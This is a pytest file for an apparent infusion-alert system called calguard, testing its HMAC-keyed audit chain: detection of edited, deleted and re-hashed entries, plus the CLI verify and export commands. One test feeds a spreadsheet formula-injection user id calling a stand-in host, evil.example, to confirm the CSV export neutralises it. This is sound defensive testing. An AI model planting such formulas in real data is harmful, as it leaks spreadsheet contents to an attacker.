"""The tamper-evident audit chain, on SQLite and PostgreSQL: every alert transition, every
user action (refused ones too) and every batch of inputs in one keyed chain that survives
restarts; verifying names the check that fails when an entry is changed, deleted or
re-hashed; ``calguard audit verify`` and ``export`` as a user runs them. (The attacks on
the chain, one by one: test_audit_keyed.py.)"""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
from pathlib import Path

import pytest
from calguard.alerts.audit import AuditReport, verify_chain
from calguard.alerts.chain import Entry, entry_mac, legacy_hash, load_key, row_digest
from calguard.alerts.log import TRANSITION_COLUMNS, AlertLog, default_audit_key, normalise_db_url
from calguard.alerts.schema import alert_transitions, audit_chain
from calguard.config import load_library
from sqlalchemy import delete, select, update
from sqlalchemy.ext.asyncio import create_async_engine

from calguard.replay import replay

ROOT = Path(__file__).parent.parent


@pytest.fixture(autouse=True)
def data_dir(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """This test's own data directory: its audit key and anchor file."""
    path = tmp_path / "data"
    monkeypatch.setenv("CALGUARD_DATA_DIR", str(path))
    monkeypatch.delenv("CALGUARD_AUDIT_KEY", raising=False)
    return path


T = "2026-11-21T08:{:02d}:00Z"
SHIFT = [
    {"t": T.format(0), "type": "patient", "bed": "B1", "weight": "1 kg", "postnatal_age": "5 day"},
    {"t": T.format(0), "type": "line", "line": "L1", "bed": "B1", "kind": "piv"},
    {"t": T.format(0), "type": "connect", "pump": "P1", "line": "L1"},
    {"t": T.format(0), "type": "patency_check", "line": "L1", "result": "blood_return"},
    {
        "t": T.format(1),
        "type": "reading",
        "pump": "P1",
        "rate": "180 ml/h",
        "drug": "Calcium gluconate 10%",
    },
    {"t": T.format(2), "type": "ack", "alert": "a-000003", "by": "rn42"},
    {"t": T.format(2), "type": "ack", "alert": "a-000099", "by": "rn42"},  # refused: no such alarm
    {
        "t": T.format(3),
        "type": "override",
        "alert": "a-000001",
        "by": "dr7",
        "reason": "prescriber-approved",
    },
    {"t": T.format(4), "type": "clock"},
]


async def run(url: str) -> list[dict[str, object]]:
    data = "".join(json.dumps(e) + "\n" for e in SHIFT).encode()
    out = io.StringIO()
    async with AlertLog(url) as log:
        await replay(io.BytesIO(data), source="shift", library=load_library(), out=out, log=log)
    return [json.loads(line) for line in out.getvalue().splitlines()]


async def execute(url: str, statement):  # type: ignore[no-untyped-def]
    engine = create_async_engine(normalise_db_url(url))
    try:
        async with engine.begin() as conn:
            result = await conn.execute(statement)
            return result.all() if result.returns_rows else None
    finally:
        await engine.dispose()


async def test_every_transition_action_and_batch_of_inputs_is_chained_and_verifies(
    db_url: str,
) -> None:
    lines = await run(db_url)
    rows = await execute(db_url, select(audit_chain).order_by(audit_chain.c.seq))
    kinds = [r.kind for r in rows]
    assert kinds[0] == "keyed-start" and kinds.count("keyed-start") == 1
    assert kinds.count("transition") == len(lines)
    assert kinds.count("action") == 2 and kinds.count("action-refused") == 1
    assert kinds.count("inputs") >= 1
    refused = next(r for r in rows if r.kind == "action-refused")
    assert refused.actor == "unverified:rn42" and "a-000099" in refused.payload
    assert [r.seq for r in rows] == list(range(1, len(rows) + 1))
    assert {r.key_id for r in rows} == {load_key(default_audit_key(), create=False).id}
    overridden = next(r for r in rows if r.kind == "transition" and '"overridden"' in r.payload)
    assert overridden.actor == "dr7"
    # a transition entry names its row and holds the digest of the row as stored
    columns = [alert_transitions.c[name] for name in TRANSITION_COLUMNS]
    stored = await execute(db_url, select(*columns).order_by(alert_transitions.c.id))
    first = next(r for r in rows if r.kind == "transition")
    assert (
        first.subject == f"alert_transitions:{stored[0].session_id}:{stored[0].seq}-{stored[0].seq}"
    )
    assert first.digest == row_digest(tuple(stored[0])) and first.payload == stored[0].alert_line
    report = await verify_chain(normalise_db_url(db_url))
    assert report.ok, failures(report)
    assert report.entries == len(rows) and report.head.hash == rows[-1].hash


async def test_the_chain_continues_across_runs(db_url: str) -> None:
    await run(db_url)
    first = len(await execute(db_url, select(audit_chain)))
    await run(db_url)
    rows = await execute(db_url, select(audit_chain).order_by(audit_chain.c.seq))
    assert [r.seq for r in rows] == list(range(1, 2 * first))  # one keyed-start, at the start
    assert [r.kind for r in rows].count("keyed-start") == 1
    report = await verify_chain(normalise_db_url(db_url))
    assert report.ok and report.entries == 2 * first - 1, failures(report)


async def test_an_edited_entry_is_found_by_its_hmac(db_url: str) -> None:
    await run(db_url)
    # someone "softens" an alarm in the audit: high -> low
    await execute(
        db_url,
        update(audit_chain)
        .where(audit_chain.c.seq == 2)
        .values(payload=audit_chain.c.payload.op("||")(" ")),
    )
    report = await verify_chain(normalise_db_url(db_url))
    assert failures(report) == {
        "HMACs": ["entry 2's HMAC does not match (edited and re-hashed, or forged)"]
    }


async def test_a_deleted_entry_is_found(db_url: str) -> None:
    await run(db_url)
    await execute(db_url, delete(audit_chain).where(audit_chain.c.seq == 4))
    report = await verify_chain(normalise_db_url(db_url))
    assert failures(report)["links"] == ["entries 4-4 are missing (the next one is 5): deleted"]


async def test_an_entry_rewritten_with_a_hash_of_its_own_is_found(db_url: str) -> None:
    """Rewriting an entry with a hash anyone can compute does not help: it is not the HMAC,
    and the next entry names the old one."""
    await run(db_url)
    rows = await execute(db_url, select(audit_chain).where(audit_chain.c.kind == "action"))
    row = rows[0]  # rn42's acknowledgement: make it someone else's
    forged = row.payload.replace("rn42", "rn99")
    assert forged != row.payload
    new_hash = legacy_hash(row.seq, row.t_us, row.kind, "rn99", forged, row.prev_hash)
    await execute(
        db_url,
        update(audit_chain)
        .where(audit_chain.c.seq == row.seq)
        .values(payload=forged, actor="rn99", hash=new_hash),
    )
    found = failures(await verify_chain(normalise_db_url(db_url)))
    assert found["HMACs"] == [
        f"entry {row.seq}'s HMAC does not match (edited and re-hashed, or forged)"
    ]
    assert found["links"][0].startswith(f"entry {row.seq + 1} does not follow entry {row.seq}")


def calguard(*args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "calguard.cli", *args],
        cwd=ROOT,
        capture_output=True,
        text=True,
        timeout=120,
    )


def test_calguard_audit_verify_and_export(tmp_path: Path) -> None:
    import asyncio

    url = f"sqlite:///{tmp_path / 'log.sqlite3'}"
    asyncio.run(run(url))
    good = calguard("audit", "verify", "--db", url)
    assert good.returncode == 0, good.stdout + good.stderr
    assert "audit verified: every check holds" in good.stdout
    for check in ("links", "HMACs", "alert_transitions", "inputs", "anchor"):
        assert any(line.split()[:2] == [check, "ok"] for line in good.stdout.splitlines())
    csv_path = tmp_path / "audit.csv"
    exported = calguard("audit", "export", "--db", url, "--out", str(csv_path))
    assert exported.returncode == 0
    with csv_path.open(newline="") as f:
        header, *body = list(csv.reader(f))
    assert header[:5] == ["seq", "time", "session", "kind", "actor"]
    assert header[-3:] == ["key_id", "subject", "digest"]
    assert len(body) == len(asyncio.run(execute(url, select(audit_chain))))
    # the alert table is checked against the chain: a message "softened" there is found
    asyncio.run(execute(url, update(alert_transitions).values(message="nothing to see")))
    asyncio.run(execute(url, update(audit_chain).where(audit_chain.c.seq == 5).values(actor="x")))
    bad = calguard("audit", "verify", "--db", url)
    assert bad.returncode == 1
    failed = [line.split()[0] for line in bad.stdout.splitlines() if "FAILED" in line.split()[1:2]]
    assert failed == ["HMACs", "alert_transitions"]
    assert "entry 5's HMAC does not match" in bad.stdout
    assert "differs from its audited line" in bad.stdout
    assert bad.stdout.splitlines()[-1] == "audit FAILED: HMACs, alert_transitions"


def test_an_exported_user_id_never_runs_as_a_formula_and_still_verifies(tmp_path: Path) -> None:
    """A user id typed as a spreadsheet formula reaches the export as text (a leading
    quote); dropping that one quote gives back the stored text, and the entry's HMAC."""
    import asyncio

    from calguard.monitor.timeutil import parse_ts

    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    url = f"sqlite:///{tmp_path / 'log.sqlite3'}"
    shift = [{**e, "by": evil} if e.get("by") == "rn42" else e for e in SHIFT]
    data = "".join(json.dumps(e) + "\n" for e in shift).encode()

    async def run_shift() -> None:
        async with AlertLog(url) as log:
            await replay(
                io.BytesIO(data), source="shift", library=load_library(), out=io.StringIO(), log=log
            )

    asyncio.run(run_shift())
    out = tmp_path / "audit.csv"
    exported = calguard("audit", "export", "--db", url, "--out", str(out))
    assert exported.returncode == 0, exported.stderr
    with out.open(newline="") as f:
        rows = list(csv.DictReader(f))
    by_evil = [r for r in rows if evil in r["actor"]]
    assert len(by_evil) == 3  # the acknowledgement, its transition and the refused one
    key = load_key(default_audit_key(), create=False)
    for r in by_evil:  # neutralised; a refused sender's claim is marked unverified
        assert r["actor"] in ("'" + evil, "unverified:" + evil)
        actor = r["actor"][1:] if r["actor"].startswith("'") else r["actor"]  # undo the escape
        session, seq, t_us = int(r["session"]), int(r["seq"]), parse_ts(r["time"])
        entry = Entry(
            session, t_us, r["kind"], actor, r["payload"], r["subject"] or None, r["digest"] or None
        )
        assert r["key_id"] == key.id and entry_mac(key, seq, entry, r["prev_hash"]) == r["hash"]


def failures(report: AuditReport) -> dict[str, list[str]]:
    """The checks that failed, with what each found."""
    return {c.name: c.problems for c in report.failed}
